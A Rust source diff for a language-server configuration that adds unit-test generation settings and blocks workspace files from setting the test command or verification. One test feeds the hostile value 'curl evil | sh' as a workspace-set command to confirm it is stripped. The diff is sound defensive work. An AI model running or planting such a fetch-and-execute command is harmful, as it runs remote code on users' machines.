@@ -29,6 +29,7 @@ pub struct Config {
     pub completion: CompletionConfig,
     pub context: ContextConfig,
     pub actions: ActionsConfig,
+    pub tests: TestsConfig,
 }
 
 // The API key must never reach a log line, so `Debug` is written by hand.
@@ -48,6 +49,7 @@ impl std::fmt::Debug for Config {
             .field("completion", &self.completion)
             .field("context", &self.context)
             .field("actions", &self.actions)
+            .field("tests", &self.tests)
             .finish()
     }
 }
@@ -135,6 +137,19 @@ pub struct ActionsConfig {
     pub custom: Vec<CustomAction>,
 }
 
+/// Unit-test generation. `verify` and `command` run programs, so only the user's own
+/// configuration may set them (see [`USER_ONLY_KEYS`]).
+#[derive(Debug, Clone, PartialEq)]
+pub struct TestsConfig {
+    /// Run the generated tests and keep only those that pass.
+    pub verify: bool,
+    pub timeout_secs: u64,
+    /// How often failing tests go back to the model with the runner's output.
+    pub repair_rounds: u32,
+    /// Replaces the default test command; `{file}` and `{names}` are filled in.
+    pub command: Option<String>,
+}
+
 #[derive(Debug, Clone, PartialEq)]
 pub struct CustomAction {
     pub title: String,
@@ -173,6 +188,7 @@ impl Default for Config {
                 exclude: DEFAULT_EXCLUDE.iter().map(|glob| glob.to_string()).collect(),
             },
             actions: ActionsConfig { resolve: false, confirm: false, max_tokens: 32768, custom: Vec::new() },
+            tests: TestsConfig { verify: false, timeout_secs: 300, repair_rounds: 1, command: None },
         }
     }
 }
@@ -221,8 +237,9 @@ pub struct Sources {
 }
 
 /// Keys a file inside the workspace may not set: a cloned repository must not be able to
-/// send the user's key to a server of its choosing.
-const USER_ONLY_KEYS: [&str; 2] = ["apiKey", "baseUrl"];
+/// send the user's key to a server of its choosing, nor make the server run a command.
+/// Dotted keys are nested (`tests.command` is `[tests] command = ...`).
+pub const USER_ONLY_KEYS: [&str; 4] = ["apiKey", "baseUrl", "tests.verify", "tests.command"];
 
 impl Sources {
     /// Reads the config files and the environment; the LSP sources are filled in later.
@@ -239,7 +256,7 @@ impl Sources {
             if let Some(mut value) = read_toml(&path, &mut errors) {
                 if let Some(object) = value.as_object_mut() {
                     for key in USER_ONLY_KEYS {
-                        if object.remove(key).is_some() {
+                        if remove_dotted(object, key) {
                             errors.push(ConfigError {
                                 source: path.display().to_string(),
                                 key: key.to_string(),
@@ -287,6 +304,16 @@ impl Sources {
             }
         }
         (config, errors)
+    }
+}
+
+/// Removes `a.b` from `{"a": {"b": ...}}` (or `a` from the top); whether it was there.
+fn remove_dotted(object: &mut Map<String, Value>, key: &str) -> bool {
+    match key.split_once('.') {
+        None => object.remove(key).is_some(),
+        Some((head, rest)) => {
+            object.get_mut(head).and_then(Value::as_object_mut).is_some_and(|inner| remove_dotted(inner, rest))
+        }
     }
 }
 
@@ -342,6 +369,7 @@ impl Config {
                 "completion" => self.apply_completion(&mut setter, value),
                 "context" => self.apply_context(&mut setter, value),
                 "actions" => self.apply_actions(&mut setter, value),
+                "tests" => self.apply_tests(&mut setter, value),
                 _ => tracing::debug!(key, source, "ignoring unknown setting"),
             }
         }
@@ -414,6 +442,26 @@ impl Config {
 /// Neovim encodes an empty Lua table `{}` as `[]`: as settings, it means no settings.
 fn is_empty_lua_table(value: &Value) -> bool {
     value.as_array().is_some_and(Vec::is_empty)
+}
+
+impl Config {
+    fn apply_tests(&mut self, setter: &mut Setter, value: &Value) {
+        let Some(object) = setter.object("tests", value) else {
+            return;
+        };
+        for (key, value) in object {
+            let key_path = format!("tests.{key}");
+            match key.as_str() {
+                "verify" => setter.bool(&key_path, value, |v| self.tests.verify = v),
+                "timeoutSecs" => setter.int(&key_path, value, 1, 86_400, |v| self.tests.timeout_secs = v),
+                "repairRounds" => setter.int(&key_path, value, 0, 5, |v| self.tests.repair_rounds = v as u32),
+                "command" => {
+                    setter.string(&key_path, value, |v| self.tests.command = Some(v).filter(|c| !c.is_empty()))
+                }
+                _ => tracing::debug!(key = key_path, "ignoring unknown setting"),
+            }
+        }
+    }
 }
 
 /// Validates one value and either sets it or records why not.
@@ -581,6 +629,30 @@ mod tests {
         assert_eq!(config.base_url, DEFAULT_BASE_URL);
         assert_eq!(config.model, "glm-4.6");
         assert_eq!(errors.len(), 1);
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn workspace_file_cannot_make_the_server_run_a_command() {
+        let root = std::env::temp_dir().join(format!("glm-lsp-config-tests-{}", std::process::id()));
+        std::fs::create_dir_all(&root).unwrap();
+        std::fs::write(
+            root.join("glm-lsp.toml"),
+            "[tests]\nverify = true\ncommand = \"curl evil | sh\"\ntimeoutSecs = 30\nrepairRounds = 2\n",
+        )
+        .unwrap();
+        let (mut sources, errors) = Sources::load(Some(&root), &|_| None);
+        let (config, _) = sources.resolve();
+        assert!(!config.tests.verify);
+        assert_eq!(config.tests.command, None);
+        assert_eq!((config.tests.timeout_secs, config.tests.repair_rounds), (30, 2));
+        let keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
+        assert_eq!(keys, ["tests.verify", "tests.command"]);
+        // The user's own settings may.
+        sources.initialization_options = json!({"tests": {"verify": true, "command": "make test"}});
+        let (config, errors) = sources.resolve();
+        assert!(config.tests.verify && errors.is_empty());
+        assert_eq!(config.tests.command.as_deref(), Some("make test"));
         std::fs::remove_dir_all(&root).unwrap();
     }
 
